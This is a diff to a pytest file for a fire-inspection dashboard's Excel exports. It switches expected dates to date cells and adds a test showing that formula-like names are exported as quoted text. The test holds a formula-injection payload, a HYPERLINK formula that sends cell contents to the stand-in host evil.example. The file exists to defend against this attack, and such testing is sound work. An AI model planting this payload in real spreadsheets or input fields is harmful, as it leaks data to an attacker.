@@ -5,6 +5,8 @@ from __future__ import annotations
 import datetime as dt
 import io
 import json
+import re
+import zipfile
 
 import openpyxl
 import pytest
@@ -105,7 +107,7 @@ def test_results_in_national_platform_layout(w, client, login_as):
             "偃师宏达商贸有限公司",
             w.unit.uscc,
             w.item_name,
-            "2026-11-06",
+            dt.datetime(2026, 11, 6),  # a date cell (Shanghai date of the submission)
             "王小锋、李四",
             "发现问题已责令改正",
             "偃师区消防救援大队",
@@ -134,7 +136,7 @@ def test_tasks_export_with_year_filter(w, client, login_as):
             "偃师宏达商贸有限公司",
             w.unit.uscc,
             w.item_name,
-            "2026-11-05",
+            dt.datetime(2026, 11, 5),  # a date cell
             "王小锋、李四",
             "已完成",
             "偃师区消防救援大队",
@@ -156,7 +158,7 @@ def test_rectifications_export(w, client, login_as):
             "偃消限字〔2026〕7号",
             "偃师宏达商贸有限公司",
             w.unit.uscc,
-            "2026-11-12",
+            dt.datetime(2026, 11, 12),  # a date cell
             "逾期未改正",
             "1/2项已改正",
             "偃师区消防救援大队",
@@ -205,3 +207,49 @@ def test_dashboard_card_starts_exports(w, client, login_as):
     html = client.get("/dashboard/").get_data(as_text=True)
     assert 'action="/dashboard/exports"' in html
     assert 'name="kind" value="results"' in html and "导出检查结果" in html
+
+
+# ---------------------------------------------------------------------------------- formula injection
+
+EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+
+
+def workbook_of(client, url):
+    resp = client.get(url)
+    assert resp.status_code == 200, resp.status_code
+    with zipfile.ZipFile(io.BytesIO(resp.get_data())) as z:
+        sheet_xml = z.read("xl/worksheets/sheet1.xml").decode()
+    return openpyxl.load_workbook(io.BytesIO(resp.get_data())).worksheets[0], sheet_xml
+
+
+@pytest.mark.parametrize("kind", ["tasks", "results", "rectifications"])
+def test_a_formula_typed_as_a_name_is_exported_as_text(w, client, login_as, kind):
+    """A unit named like a formula (and an inspector named ``@…``, an organisation ``+…``) is plain text in every
+    dashboard export: no formula in the file, the text kept whole and marked as text (Excel's quote prefix), so
+    that opening, editing or re-saving the sheet never runs it."""
+    w.unit.name = EVIL
+    w.x.name = "@SUM(1+1)"
+    w.a.name = "+大队 -1"
+    _db.session.commit()
+    login_as(w.sup_a)
+    ws, sheet_xml = workbook_of(client, f"/dashboard/export/{kind}.xlsx?year=2026")
+    assert not re.search(r"<f[\s>]", sheet_xml)  # no live formula anywhere in the sheet
+    cells = {c.value: c for row in ws.iter_rows(min_row=2) for c in row if isinstance(c.value, str)}
+    assert EVIL in cells and cells[EVIL].data_type == "s" and cells[EVIL].quotePrefix
+    assert cells["+大队 -1"].data_type == "s" and cells["+大队 -1"].quotePrefix
+    if kind != "rectifications":
+        assert cells["@SUM(1+1)、李四"].quotePrefix
+    assert not cells[w.unit.uscc].quotePrefix  # ordinary text stays ordinary
+
+
+def test_dates_are_dates_in_every_export(w, client, login_as):
+    """Dates are date cells (sortable and filterable in Excel), shown as YYYY-MM-DD."""
+    login_as(w.sup_a)
+    for url, column in (
+        ("/dashboard/export/tasks.xlsx?year=2026", 5),
+        ("/dashboard/export/results.xlsx", 4),
+        ("/dashboard/export/rectifications.xlsx", 4),
+    ):
+        ws, _xml = workbook_of(client, url)
+        cell = ws.cell(row=2, column=column)
+        assert cell.is_date and cell.number_format == "yyyy-mm-dd", (url, cell.value, cell.number_format)
